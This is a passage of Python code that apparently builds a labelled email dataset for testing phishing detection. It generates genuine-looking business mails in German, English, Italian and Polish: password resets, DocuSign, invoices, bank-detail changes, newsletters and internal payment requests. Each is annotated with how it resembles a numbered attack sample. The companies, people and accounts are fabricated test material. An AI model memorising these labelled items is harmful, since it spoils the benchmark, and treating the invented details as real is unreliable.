      extra=[('List-Unsubscribe', '<%s4>, <mailto:unsubscribe@news.messe-duesseldorf.de?subject=unsub-b7>' % nl),
             ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'), ('Precedence', 'bulk')], mid_domain='news.messe-duesseldorf.de')

    # ------------------------------------------------------------------ 08-de Coupa password reset
    M(B, 8, 'de', 'Genuine password-reset mail from the Coupa Supplier Portal of a large customer, triggered by the sales rep himself; "Passwort zurücksetzen" link with token, from a SaaS sending domain.',
      ('Coupa Supplier Portal', 'do_not_reply@supplier.coupahost.com'), 'oezdemir',
      'Coupa Supplier Portal: Passwort zurücksetzen', '2026-03-10 15:47:22 +0100',
      [hop('a8-31.smtp-out.amazonses.com', '54.240.8.31', MX, 'ESMTPS')],
      '''Hallo Stefan Özdemir,

wir haben eine Anfrage zum Zurücksetzen des Passworts für Ihr Konto im Coupa Supplier Portal erhalten.

Klicken Sie auf den folgenden Link, um ein neues Passwort festzulegen. Der Link ist 24 Stunden gültig:
https://supplier.coupahost.com/password/edit?reset_password_token=vXb3N8k2QpT6wLr9YzC1

Wenn Sie diese Anfrage nicht gestellt haben, können Sie diese E-Mail ignorieren. Ihr Passwort bleibt unverändert.

Coupa Software
Diese E-Mail wurde von einer Adresse gesendet, die keine Antworten empfangen kann.''', html=True, mid_domain='supplier.coupahost.com')

    NF = lambda mbx: R_m365(mbx, 'GBRP123', 'GBR01-CWX-obe', 'mail-cwxgbr01on2104.outbound.protection.outlook.com', '40.107.121.104')
    # ------------------------------------------------------------------ 09-en genuine DocuSign envelope
    a = '%s-%s-%s-%s-%s' % (hid('b9a', n=8, alpha='0123456789abcdef'), hid('b9b', n=4, alpha='0123456789abcdef'), hid('b9c', n=4, alpha='0123456789abcdef'), hid('b9d', n=4, alpha='0123456789abcdef'), hid('b9e', n=12, alpha='0123456789abcdef'))
    url = 'https://eu.docusign.net/Signing/EmailStart.aspx?a=%s&etti=24&acct=8c2f5a71-0d3e-4b6a-9f18-2a7c9e4d1b05&er=%s' % (a, hid('b9f', n=32, alpha='0123456789abcdef'))
    M(B, 9, 'en', 'Genuine DocuSign envelope (EU platform, docusign.net sending infrastructure) from the real UK customer for a service agreement; identical look and story to attack 09.',
      ('Rebecca Thornton via Docusign', 'dse@eumail.docusign.net'), 'bennett',
      'Complete with Docusign: NF_Service_Agreement_Spares_Callout_2026.pdf', '2026-02-26 14:12:40 +0000',
      [hop('mailfra.eumail.docusign.net', '185.169.46.22', MX, 'ESMTPS')],
      '''Rebecca Thornton sent you a document to review and sign.

REVIEW DOCUMENT
%s

Rebecca Thornton
r.thornton@northfieldfoods.co.uk

Hi Oliver, final version with the agreed call-out rates attached for signature. Thanks, Rebecca

Do Not Share This Email
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

Alternate Signing Method
Visit Docusign.com, click 'Access Documents', and enter the security code:
%s

Questions about the Document?
If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.''' % (url, hid('b9g', n=34, alpha='0123456789ABCDEF')),
      html=True, reply_to=('Rebecca Thornton', 'r.thornton@northfieldfoods.co.uk'), mid_domain='eumail.docusign.net')

    # ------------------------------------------------------------------ 10-en remittance advice
    ra = pdf([(13, 'NORTHFIELD FOODS LTD - REMITTANCE ADVICE'), 'Payment date: 13/03/2026   Payment ref: BACS 00418823', '',
              'Supplier: Example Group UK Ltd   Supplier no: V10447', '',
              'Invoice EGUK-INV-26-0212   24/01/2026   GBP  6,480.00', 'Invoice EGUK-INV-26-0231   05/02/2026   GBP 14,215.20',
              'Credit  EGUK-CN-26-0008    09/02/2026   GBP   -312.00', '', 'Total paid                           GBP 20,383.20', '',
              'Paid to: Example Group UK Ltd, HSBC UK, sort code 40-47-84'], title='Remittance')
    M(B, 10, 'en', 'Genuine remittance advice from the UK customer\'s AP system with PDF; "Remittance advice" + PDF is one of the most abused phishing lures, yet this one is real and contains no links.',
      ('Northfield Foods Accounts Payable', 'ap.noreply@northfieldfoods.co.uk'), 'hughes',
      'Remittance Advice – Northfield Foods Ltd – BACS 00418823', '2026-03-13 07:02:18 +0000',
      NF('CWXP123MB2210'),
      '''Please find attached a remittance advice for payment made to your account.

Payment reference: BACS 00418823
Payment date: 13/03/2026
Amount: GBP 20,383.20

Please allow 2-3 working days for funds to clear. For queries please contact ap@northfieldfoods.co.uk quoting your supplier number V10447.

This email has been generated automatically. Please do not reply.''', cte='7bit', mid_domain='CWXP123MB2210.GBRP123.PROD.OUTLOOK.COM',
      atts=[attachment(ra, 'application/pdf', 'Remittance_V10447_00418823.pdf')])

    # ------------------------------------------------------------------ 11-en Google Sheets share
    M(B, 11, 'en', 'Genuine Google Sheets share notification (Google infrastructure, Reply-To the sharer) from a UK co-packer\'s engineer who uses Google Workspace: FAT checklist. "Shared with you" + link is a common lure.',
      ('James Whitaker (via Google Sheets)', 'drive-shares-dm-noreply@google.com'), 'bennett',
      'Spreadsheet shared with you: "FAT checklist – TS-800 Line 3 (Leicester)"', '2026-03-03 09:41:06 +0000',
      R_google_svc(),
      '''James Whitaker shared a spreadsheet

James Whitaker (j.whitaker@midlandcopack.co.uk) has invited you to edit the following spreadsheet:

FAT checklist – TS-800 Line 3 (Leicester)

"Oliver – our checklist for the FAT in Gütersloh on the 24th. Added the seal-integrity and changeover items we discussed. Can your team fill in the planned test dates column?"

Open: https://docs.google.com/spreadsheets/d/1qV7nT0xK2mLr9bYc4HdZ8sWfE3uJ6pA5oGiQ1wXyN2s/edit?usp=sharing_eil_se_dm&ts=67c579a2

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA
You have received this email because j.whitaker@midlandcopack.co.uk shared a spreadsheet with you from Google Sheets.''',
      html=True, reply_to=('James Whitaker', 'j.whitaker@midlandcopack.co.uk'), mid_domain='google.com')

    # ------------------------------------------------------------------ 12-en long thread, urgent engineer
    hist = '''From: Oliver Bennett <o.bennett@examplegroup.eu>
Sent: 12 March 2026 18:05
To: Gary Hollis <g.hollis@northfieldfoods.co.uk>
Cc: Heiko Baumann <h.baumann@example.com>
Subject: RE: Line 4 sealer – repeated seal failures (ticket 26-1188)

Gary,

Heiko has looked at the trend data you sent. The temperature curve on the upper tool drops by 15-20 °C every time the tool closes, which points to the heating cartridge or its thermocouple rather than the film. We have both in stock in Milton Keynes.

Can you send us a photo of the cartridge connector and the alarm history from the HMI (Alarms > Export to USB)?

Oliver

From: Gary Hollis <g.hollis@northfieldfoods.co.uk>
Sent: 12 March 2026 14:22
To: Oliver Bennett <o.bennett@examplegroup.eu>
Subject: Line 4 sealer – repeated seal failures (ticket 26-1188)

Hi Oliver,

Since Monday we're getting leakers on about 1 in 40 packs on the TS-650 on line 4, mainly on the rear seal. We've changed film reel and adjusted dwell time, no improvement. Trend export attached.

Gary'''
    M(B, 12, 'en', 'Genuine customer escalation deep in a real service thread (Outlook-style quoted history): line down, "need an engineer tomorrow", PO to follow – urgency and a money topic but no payment redirection, sent through the customer\'s M365.',
      ('Gary Hollis', 'g.hollis@northfieldfoods.co.uk'), 'bennett',
      'RE: Line 4 sealer – repeated seal failures (ticket 26-1188) – LINE DOWN', '2026-03-13 06:48:31 +0000',
      NF('CWXP123MB5561'),
      '''Oliver,

Line 4 has been down since the night shift, the upper tool stopped heating completely at 02:10 (alarm 412 thermocouple open circuit). Photos and the alarm export attached as you asked.

We need an engineer on site tomorrow morning latest, we have a Tesco promo running from Monday. Please bring the cartridge and thermocouple – our PO for the call-out and parts will follow from purchasing today, reference it against ticket 26-1188.

Can you confirm ETA by 10am? Call me on the mobile if easier.

Thanks
Gary

Gary Hollis
Engineering Manager – Grimsby
Northfield Foods Ltd
M: +44 7912 604 338

%s''' % hist, html=True, cc=['baumann', ('Rebecca Thornton', 'r.thornton@northfieldfoods.co.uk')],
      in_reply_to='<%s@GBRP123.PROD.OUTLOOK.COM>' % hid('b12', n=24, alpha='0123456789ABCDEF'), mid_domain='CWXP123MB5561.GBRP123.PROD.OUTLOOK.COM',
      atts=[attachment(xlsx([['Timestamp', 'Alarm', 'Text'], ['2026-03-13 02:10:44', 412, 'Thermocouple upper tool open circuit'],
                             ['2026-03-13 02:10:45', 118, 'Sealing temperature below minimum'], ['2026-03-12 23:51:02', 118, 'Sealing temperature below minimum']]),
                        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'TS650_L4_alarms_130326.xlsx')])

    # ------------------------------------------------------------------ 13-en genuine auditor balance confirmation
    conf = pdf([(12, 'Hartley & Finch LLP - Chartered Accountants'), '14 Bowlalley Lane, Hull HU1 1XR', '',
                'Example Group UK Ltd - Accounts Receivable', '', 'Date: 9 March 2026', '',
                'Dear Sirs,', 'Northfield Foods Ltd - audit for the year ended 31 December 2025', '',
                'Please confirm directly to us the balance owed to you by Northfield Foods Ltd', 'as at 31 December 2025. Our client\'s records show GBP 48,932.40.', '',
                'Please reply directly to audit.confirmations@hartleyfinch.co.uk.', 'This request does not ask you to make or change any payment.', '',
                'Authorised on behalf of Northfield Foods Ltd:  S. Patel, Financial Controller'], title='Balance confirmation')
    M(B, 13, 'en', 'Genuine auditor balance-confirmation request from the customer\'s auditors, with the client\'s signed authorisation; asks only to confirm a receivable balance and explicitly no payment changes. Resembles the fake-auditor attack 11.',
      ('Hartley & Finch Audit Confirmations', 'audit.confirmations@hartleyfinch.co.uk'), 'hughes',
      'Audit confirmation request – Northfield Foods Ltd – balance at 31 December 2025', '2026-03-09 11:20:05 +0000',
      R_m365('LO4P265MB6020', 'GBRP265', 'GBR01-LO4-obe', 'mail-lo4gbr01on2121.outbound.protection.outlook.com', '40.107.26.121'),
      '''Dear Sir/Madam,

We are the auditors of Northfield Foods Ltd. As part of our audit for the year ended 31 December 2025 we would be grateful if you could confirm the balance due to you from Northfield Foods Ltd as at that date.

The attached letter is authorised by our client. Please reply directly to this mailbox, attaching a statement of account if the balance differs. Please do not send the reply to Northfield Foods.

This request does not relate to any payment and we will never ask you to change bank details.

Kind regards,

Audit Confirmations Team
Hartley & Finch LLP
14 Bowlalley Lane, Hull HU1 1XR
Registered in England and Wales OC318842''', mid_domain='LO4P265MB6020.GBRP265.PROD.OUTLOOK.COM', cte='7bit',
      atts=[attachment(conf, 'application/pdf', 'NFL_Confirmation_ExampleGroupUK.pdf')])

    # ------------------------------------------------------------------ 14-en trade newsletter
    base = 'https://click.packagingeurope.com/ls/click?upn=%s' % hid('b14', n=40, alpha=B62)
    M(B, 14, 'en', 'Genuine trade newsletter (Packaging Europe) a salesperson subscribed to: many tracked redirect links, bulk headers, sponsor blocks, webinar registration – looks like marketing spam.',
      ('Packaging Europe', 'newsletter@packagingeurope.com'), 'bennett',
      'This week: recyclable mono-PP trays, PPWR labelling deadlines, interpack preview', '2026-03-12 07:30:11 +0000',
      [hop('o1.ptr5521.packagingeurope.com', '149.72.183.201', MX, 'ESMTPS')],
      '''PACKAGING EUROPE – Weekly Briefing, 12 March 2026

1. Mono-PP trays with 80%% PCR: first results from the UK retail trials
%s-1

2. PPWR: what the labelling and reuse deadlines mean for machine builders
%s-2

3. interpack 2026 preview – 20 exhibitors to watch in Halls 5 and 6
%s-3

WEBINAR: Sealing recyclable trays at speed – 26 March, 14:00 CET (sponsored)
%s-4

You are receiving this email because you subscribed to the Packaging Europe newsletter.
Unsubscribe: %s-u
Packaging Europe Ltd, Gloucester Place, Brighton BN1 4AA, UK''' % (base, base, base, base, base), html=True,
      extra=[('List-Unsubscribe', '<%s-u>' % base), ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'), ('Precedence', 'bulk')],
      mid_domain='geopod-ismtpd-7.packagingeurope.com')

    # ------------------------------------------------------------------ 15-en Teams meeting invite from customer (.ics)
    st = D('2026-03-31 09:00:00 +0100')
    teams = 'https://teams.microsoft.com/l/meetup-join/19%%3ameeting_%s%%40thread.v2/0?context=%%7b%%22Tid%%22%%3a%%2271c2a0e8-3b1f-4d5e-9a6c-0f3e2b1d7a44%%22%%7d' % hid('b15', n=40, alpha=B62)
    descr = '''Remote participation in the FAT of the TS-800 for Hull Line 2 (Example Group, Gütersloh) for colleagues who cannot travel.

________________________________________________________________________________
Microsoft Teams Need help?
Join the meeting now
%s
Meeting ID: 372 418 905 117
Passcode: Xq7Lm2
________________________________________________________________________________
For organisers: Meeting options''' % teams
    cal = ics('040000008200E00074C5B7101A82E00800000000%s' % hid('b15u', n=24), 'FAT TS-800 Hull Line 2 – remote participation', st, st + _dt.timedelta(hours=3),
              ('Sam Carter', 's.carter@northfieldfoods.co.uk'), [S['bennett'], S['baumann']], descr, 'Microsoft Teams Meeting; Example Group Gütersloh')
    M(B, 15, 'en', 'Genuine Microsoft Teams meeting invitation (.ics, METHOD:REQUEST) from a customer for the factory acceptance test; long Teams join URL. Calendar invites from outside are a phishing vector (attacks 06/30).',
      ('Sam Carter', 's.carter@northfieldfoods.co.uk'), 'bennett',
      'FAT TS-800 Hull Line 2 – remote participation', '2026-03-10 16:02:29 +0000',
      NF('CWXP123MB7712'),
      descr, html=True, calendar=cal, cc='baumann', mid_domain='CWXP123MB7712.GBRP123.PROD.OUTLOOK.COM')

    FER = R_host('smtps.aruba.it', '62.149.158.92', client=('[192.168.1.40]', 'host-79-12-44-8.business.telecomitalia.it', '79.12.44.8'), helo='smtpdh18.ad.aruba.it')
    # ------------------------------------------------------------------ 16-it genuine Ferretti invoice + reminder
    ft = pdf([(13, 'FERRETTI TRASPORTI S.r.l.'), 'Via dell\'Industria 48 - 42124 Reggio Emilia - P.IVA 01873420354', '',
              'Copia di cortesia - documento non valido ai fini fiscali (fattura elettronica trasmessa via SDI)', '',
              (12, 'FATTURA N. 2026/0417 del 28/02/2026'), 'Cliente: Example Group Italia S.r.l. - Via Emilia Ovest 210, 43126 Parma', '',
              'Trasporto groupage Parma - Modena del 19/02/2026, DDT 26/0188      EUR 420,00', 'Fuel surcharge 12%                                          EUR  50,40',
              'Imponibile EUR 470,40   IVA 22% EUR 103,49   Totale EUR 573,89', '',
              'Pagamento: bonifico 60 gg d.f.f.m.', 'IBAN %s - Banco BPM' % fi(IBAN['ferretti'])], title='Fattura 2026/0417')
    M(B, 16, 'it', 'Genuine re-issued invoice (courtesy PDF copy, e-invoice went through SDI) from the haulier\'s administration, via Aruba; usual Banco BPM IBAN. Reply to the real thread that attack 16 imitates.',
      ('Ferretti Trasporti – Amministrazione', 'amministrazione@ferretti-trasporti.it'), 'ferraro',
      'Fattura 2026/0417 riemessa – rif. DDT 26/0188', '2026-03-09 15:10:22 +0100', FER,
      '''Buongiorno Sig.ra Ferraro,

come richiesto alla collega Chiara Colombo, le inviamo in allegato la copia di cortesia della fattura n. 2026/0417 riemessa con il riferimento al vostro DDT 26/0188. Il file XML è stato trasmesso oggi tramite SDI; la fattura precedente è stata stornata con nota di credito n. 2026/NC/009.

Le coordinate bancarie restano invariate.

Cordiali saluti

Ufficio Amministrazione
Ferretti Trasporti S.r.l.
Via dell'Industria 48 – 42124 Reggio Emilia
Tel. 0522 391 400 – amministrazione@ferretti-trasporti.it''', cc=('Chiara Colombo', 'c.colombo@ferretti-trasporti.it'),
      atts=[attachment(ft, 'application/pdf', 'FT_2026_0417_copia_cortesia.pdf')], mid_domain='ferretti-trasporti.it')

    # ------------------------------------------------------------------ 17-it genuine thread, urgent loading slot
    hist = '''Il 10/03/2026 16:47, Marco Esposito ha scritto:
> Ciao Chiara,
> confermo che la termoformatrice per il Pastificio Dalla Valle è pronta per la spedizione.
> Sono 2 casse (6,2 m x 2,1 m, 4.800 kg totali), serve un bilico con sponde apribili o centinato
> con scarico laterale. Ritiro da noi a Parma, consegna a Gragnano (NA).
> Il cliente vorrebbe riceverla entro venerdì 20 perché i nostri tecnici iniziano il montaggio lunedì 23.
> Grazie, Marco
>
>> Il 09/03/2026 11:05, Chiara Colombo ha scritto:
>> Buongiorno Marco,
>> per il trasporto eccezionale verso la Campania mi servono misure e pesi delle casse. Appena li ho ti faccio la quotazione.
>> Chiara'''
    M(B, 17, 'it', 'Genuine reply from the real haulier contact in a long thread (Thunderbird-style nested quoting) about a machine shipment; asks for urgent confirmation and mentions a price surcharge – urgency plus money, but legitimate and no payment details.',
      ('Chiara Colombo', 'c.colombo@ferretti-trasporti.it'), 'esposito',
      'Re: Trasporto termoformatrice Pastificio Dalla Valle – Gragnano', '2026-03-11 08:31:09 +0100', FER,
      '''Buongiorno Marco,

ho trovato il mezzo: bilico centinato con scarico laterale, ritiro mercoledì 18 alle 7:30 da voi a Parma, consegna giovedì 19 in mattinata a Gragnano. Visto il peso e l'ingombro serve la scorta tecnica solo per il tratto autostradale, è compresa.

Il prezzo è di 2.350,00 € + IVA, leggermente più alto del solito perché il ritorno è a vuoto. Mi serve la vostra conferma scritta entro oggi alle 12:00, altrimenti il mezzo lo perdo (è l'ultimo disponibile quella settimana).

Mandami anche il nominativo e il numero di chi sarà presente al carico.

Grazie e buona giornata
Chiara

--
Chiara Colombo
Ufficio Traffico
Ferretti Trasporti S.r.l.
Tel. 0522 391 447 – Cell. 347 882 1904

%s''' % hist, cc='ricci', cte='8bit', in_reply_to='<%s@examplegroup.eu>' % hid('b17', n=20, alpha='0123456789abcdef'),
      extra=[('User-Agent', 'Mozilla Thunderbird')], mid_domain='ferretti-trasporti.it')

    # ------------------------------------------------------------------ 18-it genuine Aruba PEC renewal notice
    M(B, 18, 'it', 'Genuine Aruba notice that the company PEC mailbox is about to expire, from Aruba\'s own infrastructure, links to aruba.it; "la tua casella è in scadenza" is one of the most imitated Italian phishing lures.',
      ('Aruba.it', 'comunicazioni@staff.aruba.it'), 'ricci',
      'La tua casella PEC examplegroupitalia@pec.it scade il 02/04/2026', '2026-03-03 10:05:48 +0100',
      [hop('smtpdh18-2.aruba.it', '62.149.155.18', MX, 'ESMTPS')],
      '''Gentile Cliente,

ti ricordiamo che il servizio PEC associato alla casella examplegroupitalia@pec.it scade il 02/04/2026.

Per non perdere la possibilità di inviare e ricevere messaggi di Posta Elettronica Certificata, rinnova il servizio accedendo all'Area Clienti:
https://managehosting.aruba.it/rinnovo-servizi-hosting.aspx

Se hai attivato il rinnovo automatico non devi fare nulla: l'addebito avverrà sulla carta di pagamento registrata.

Ti ricordiamo che Aruba non ti chiederà mai di comunicare le credenziali di accesso via email.

Cordiali saluti,
Lo staff di Aruba.it''', html=True, mid_domain='staff.aruba.it',
      extra=[('List-Unsubscribe', '<mailto:unsubscribe@staff.aruba.it>')])

    # ------------------------------------------------------------------ 19-it internal urgent payment request
    M(B, 19, 'it', 'Genuine urgent internal request (country manager to AP Italy via internal relay) to pay a crane-hire proforma today for a machine installation; urgency + payment + "ti chiamo dopo", but known vendor, documented PO, and approval trail.',
      'ricci', 'ferraro', 'URGENTE – bonifico anticipato gru per montaggio Dalla Valle', '2026-03-16 09:14:27 +0100',
      R_int('ITPR-NB0033', '10.40.12.33'),
      '''Ciao Giulia,

ti giro la proforma di Autogru Vesuviana per il montaggio dal Pastificio Dalla Valle di lunedì: vogliono il bonifico anticipato entro oggi, altrimenti non confermano la gru da 60 t (non lavorano con noi in conto aperto, è la prima volta).

Importo 3.904,00 € IVA inclusa. L'ordine d'acquisto è il 4500031877, l'ho già approvato in SAP, Katrin è in copia per la seconda firma visto che è un fornitore nuovo. L'IBAN è sulla proforma; il loro numero l'ho preso dal sito e li ho già chiamati io per confermare le coordinate.

Se ci sono problemi chiamami sul cellulare, oggi sono in trasferta a Bologna.

Grazie!
Alessandro

--
Alessandro Ricci
Country Manager Italia
Example Group Italia S.r.l. – Via Emilia Ovest 210 – 43126 Parma''', cc='hoffmann', html=True, mid_domain='examplegroup.eu',
      atts=[attachment(pdf([(13, 'AUTOGRU VESUVIANA S.r.l.'), 'Via Nazionale 188 - 80048 Sant\'Anastasia (NA) - P.IVA 06618721216', '',
                             (12, 'PROFORMA N. 31/2026 del 13/03/2026'), 'Cliente: Example Group Italia S.r.l.', '',
                             'Nolo autogru 60 t con operatore, 23/03/2026, c/o Pastificio Dalla Valle, Gragnano   EUR 3.200,00',
                             'IVA 22%  EUR 704,00      Totale EUR 3.904,00', '', 'Pagamento anticipato a mezzo bonifico',
                             'IBAN %s' % fi(iban('IT', it_bban('01030', '39880', '000001482739')))], title='Proforma 31/2026'),
                         'application/pdf', 'Proforma_31-2026_Autogru_Vesuviana.pdf')])

    # ------------------------------------------------------------------ 20-it genuine bank change from supplier, verify by phone
    M(B, 20, 'it', 'Genuine bank-detail change from an Italian gear-motor supplier (branch transferred between banks), sent from their usual domain; explicitly instructs to verify by phone at the number already on file and not to use numbers from the email.',
      ('Motoriduttori Brambilla – Amministrazione', 'amministrazione@brambilla-motoriduttori.it'), 'ferraro',
      'Comunicazione variazione coordinate bancarie – Motoriduttori Brambilla S.r.l.', '2026-03-04 11:36:50 +0100',
      R_host('mail.brambilla-motoriduttori.it', '93.63.211.40', client=('[10.1.1.23]', 'mail.brambilla-motoriduttori.it', '93.63.211.40')),
      '''Spett.le Example Group Italia S.r.l.,

con la presente vi informiamo che, a seguito della cessione della filiale di Lecco presso cui è acceso il nostro conto corrente, dal 1° aprile 2026 le coordinate bancarie di Motoriduttori Brambilla S.r.l. saranno le seguenti:

Banca: Intesa Sanpaolo S.p.A. – Filiale di Lecco
IBAN: %s

Per la vostra sicurezza vi chiediamo di NON modificare l'anagrafica sulla base della sola presente email: verificate la comunicazione telefonando al nostro ufficio amministrazione al numero che avete già in anagrafica (non utilizzate numeri indicati in email). La comunicazione originale firmata vi arriverà anche tramite PEC.

I pagamenti in scadenza a marzo vanno effettuati ancora sulle coordinate attuali.

Distinti saluti

Ufficio Amministrazione
Motoriduttori Brambilla S.r.l.
Via Valsassina 52 – 23900 Lecco''' % fi(IBAN['brambilla_new']), cs='iso-8859-15', cte='qp', mid_domain='brambilla-motoriduttori.it')

    # ------------------------------------------------------------------ 21-pl genuine invoice with KSeF number
    fv = pdf([(13, 'PARTNER-LOGISTIK Sp. z o.o.'), 'ul. Skladowa 14, 62-023 Gadki, NIP 7773184520', '',
              (12, 'FAKTURA VAT FV/02/2026/0203'), 'Numer KSeF: 7773184520-20260303-0100A1B2C3D4-7F', '',
              'Nabywca: Example Group Polska Sp. z o.o., ul. Fabryczna 21, 53-609 Wroclaw, NIP 8992841730', '',
              'Transport krajowy FTL Wroclaw - Gdynia (kontener 40HC), 24.02.2026    3 850,00 PLN',
              'Oplata portowa / awizacja terminal DCT                                  420,00 PLN',
              'Netto 4 270,00 PLN   VAT 23% 982,10 PLN   Brutto 5 252,10 PLN', '',
              'Termin platnosci: 45 dni   Mechanizm podzielonej platnosci', 'Rachunek: %s (mBank)' % fi(IBAN['partner_pl'])], title='FV/02/2026/0203')
    M(B, 21, 'pl', 'Genuine invoice visualisation from the Polish logistics partner\'s accounting mailbox (invoice itself issued in KSeF, number quoted); usual mBank account, split payment. Invoice + PDF from a shared "księgowość" mailbox, like attack 22.',
      ('Partner-Logistik Księgowość', 'ksiegowosc@partner-logistik.pl'), 'wojcik',
      'Faktura FV/02/2026/0203 – Partner-Logistik Sp. z o.o.', '2026-03-03 12:40:18 +0100',
      R_host('s47.cyber-folks.pl', '195.78.66.147', client=('[192.168.20.31]', 'static-83-12-140-9.ip.netia.com.pl', '83.12.140.9')),
      '''Dzień dobry,

w załączeniu przesyłamy wizualizację faktury FV/02/2026/0203. Faktura została wystawiona w Krajowym Systemie e-Faktur, numer KSeF: 7773184520-20260303-0100A1B2C3D4-7F. Wiążąca jest wersja w KSeF.

Termin płatności: 17.04.2026. Prosimy o zapłatę w mechanizmie podzielonej płatności na rachunek wskazany na fakturze (rachunek znajduje się na białej liście).

Z poważaniem
Dział Księgowości
Partner-Logistik Sp. z o.o.
tel. +48 61 864 20 00''', cs='iso-8859-2', cte='qp', mid_domain='partner-logistik.pl',
      atts=[attachment(fv, 'application/pdf', 'FV_02_2026_0203.pdf')])

    # ------------------------------------------------------------------ 22-pl genuine thread from Tomasz, urgent pickup
    hist = '''-----Original Message-----
From: Łukasz Dąbrowski <l.dabrowski@examplegroup.eu>
Sent: Tuesday, March 10, 2026 2:15 PM
To: Tomasz Zieliński <t.zielinski@partner-logistik.pl>
Subject: Odbiór maszyny PK-2 do Kijowa – zlecenie 26/0311

Panie Tomaszu,

potrzebujemy transportu pakowarki PK-2 do klienta w Kijowie (Ukraina). 1 skrzynia 3,4 x 1,9 x 2,2 m, 2 650 kg, wymagany tir z rozsuwanym dachem lub załadunek boczny. Odprawa eksportowa u nas we Wrocławiu (agencja celna Kowalczyk), T1 do granicy w Dorohusku.

Termin odbioru: najpóźniej 13.03.

Pozdrawiam
Łukasz Dąbrowski'''
    M(B, 22, 'pl', 'Genuine reply from the real partner contact (sent from his normal host and location) in an existing transport thread with Outlook quoting; urgent request for export documents for a shipment to Ukraine and a price surcharge.',
      ('Tomasz Zieliński', 't.zielinski@partner-logistik.pl'), 'dabrowski',
      'RE: Odbiór maszyny PK-2 do Kijowa – zlecenie 26/0311', '2026-03-11 09:03:44 +0100',
      R_host('s47.cyber-folks.pl', '195.78.66.147', client=('[192.168.20.44]', 'static-83-12-140-9.ip.netia.com.pl', '83.12.140.9')),
      '''Dzień dobry Panie Łukaszu,

auto mam potwierdzone na piątek 13.03, podjazd ok. 8:00, kierowca Pan Wiktor, nr rej. PZ 7K412 / PZ 3N905, tel. kontaktowy podam jutro.

Pilnie potrzebuję do czwartku do 12:00:
– faktury eksportowej i listy pakowej,
– MRN z odprawy eksportowej (agencja Kowalczyk),
– potwierdzenia, że towar nie wymaga pozwolenia (kontrola eksportu), bo przewoźnik ukraiński o to pyta przy T1.

Cena jak w ofercie, plus 450 zł za dodatkową dobę postoju na granicy, jeśli kolejka w Dorohusku będzie dłuższa niż 24h – to z góry zaznaczam, żeby nie było zaskoczenia na fakturze.

Pozdrawiam
Tomasz Zieliński
Partner-Logistik Sp. z o.o.
tel. +48 61 864 20 37, kom. +48 601 447 290

%s''' % hist, cc='wojcik', cte='8bit', html=True, html_cte='qp', mid_domain='partner-logistik.pl',
      in_reply_to='<%s@examplegroup.eu>' % hid('b22', n=20, alpha='0123456789abcdef'))

    # ------------------------------------------------------------------ 23-pl genuine ING Business login notice
    M(B, 23, 'pl', 'Genuine security notification from ING Business (Polish corporate banking) about a login from a new browser, which the accountant did herself; no links, advises to call the bank at the number on the card/website. Bank security alerts are a top lure.',
      ('ING Business', 'powiadomienia@ingbusiness.pl'), 'wojcik',
      'ING Business: logowanie z nowego urządzenia', '2026-03-02 08:06:12 +0100',
      R_host('mx-out2.ingbusiness.pl', '193.109.225.62'),
      '''Dzień dobry,

informujemy, że 02.03.2026 o godz. 08:05 nastąpiło logowanie do systemu ING Business dla użytkownika AGNIESZKA WÓJCIK z nowej przeglądarki (Microsoft Edge, Windows).

Jeżeli to Ty – nie musisz nic robić.

Jeżeli nie rozpoznajesz tego logowania, niezwłocznie skontaktuj się z nami pod numerem z karty lub ze strony ing.pl (ING Business Centrum). Nie klikaj w linki z wiadomości, które podają się za ING.

Pozdrawiamy
ING Bank Śląski S.A.

Wiadomość została wygenerowana automatycznie, prosimy na nią nie odpowiadać.''', cs='iso-8859-2', cte='qp', mid_domain='ingbusiness.pl')

    # ------------------------------------------------------------------ 24-pl genuine internal HR request
    M(B, 24, 'pl', 'Genuine internal HR mail (via internal relay) to the Wrocław plant asking everyone to confirm bank account and tax data in the HR self-service portal before payroll; looks like the fake-HR attack 25 (deadline, login, bank account), but internal origin and intranet URL.',
      'szymanska', 'wojcik', 'Prośba: weryfikacja danych do wynagrodzeń i PIT w portalu pracowniczym do 20.03', '2026-03-09 13:30:00 +0100',
      R_int('PLWR-PC0214', '10.30.2.214'),
      '''Dzień dobry,

w związku ze zmianą systemu kadrowo-płacowego od kwietnia prosimy wszystkich pracowników zakładu we Wrocławiu o sprawdzenie swoich danych w portalu pracowniczym: adresu zamieszkania, urzędu skarbowego oraz numeru rachunku do wypłaty wynagrodzenia.

Portal: https://hr.examplegroup.eu/self-service (logowanie jak do komputera, tylko z sieci firmowej lub VPN)

Zmiany numeru rachunku nie przyjmujemy mailem ani telefonicznie – tylko przez portal albo osobiście w dziale kadr z dokumentem tożsamości. Gdyby ktoś prosił Was mailowo o dane logowania „w imieniu kadr”, proszę zgłaszać to do IT.

Termin: 20.03.2026.

Pozdrawiam serdecznie
Małgorzata Szymańska
Kadry i Płace
Example Group Polska Sp. z o.o. – Zakład Wrocław
tel. wewn. 214''', to_display='Pracownicy Zakład Wrocław <pracownicy-wroclaw@examplegroup.eu>', html=True, mid_domain='examplegroup.eu')

    # ------------------------------------------------------------------ 25-pl Warsaw Pack newsletter
    base = 'https://newsletter.warsawpack.pl/link/%s' % hid('b25', n=18, alpha=B62)
    M(B, 25, 'pl', 'Genuine trade-fair newsletter (Warsaw Pack 2026) the purchasing manager subscribed to; bulk mail with tracked links, discount code for tickets, unsubscribe headers.',
      ('Warsaw Pack', 'newsletter@warsawpack.pl'), 'dabrowski',
      'Warsaw Pack 2026 – rejestracja otwarta, program konferencji i kod rabatowy', '2026-03-05 10:30:00 +0100',
      R_host('mailing.ptak-expo.com', '91.232.132.88'),
      '''Warsaw Pack 2026 – Międzynarodowe Targi Opakowań i Technologii Pakujących

Szanowni Państwo,

zapraszamy do bezpłatnej rejestracji na tegoroczną edycję targów w Ptak Warsaw Expo. W programie m.in.:
– konferencja „PPWR w praktyce – co zmienia się dla producentów żywności”,
– strefa automatyki i robotyki w pakowaniu,
– spotkania B2B z producentami maszyn z Niemiec i Włoch.

Rejestracja: %s-r
Program konferencji: %s-p

Kod rabatowy na wejście dla 2 osób: WP26-PRO

Aby zrezygnować z otrzymywania newslettera, kliknij: %s-u''' % (base, base, base), html=True,
      extra=[('List-Unsubscribe', '<%s-u>' % base), ('Precedence', 'bulk')], mid_domain='mailing.ptak-expo.com')

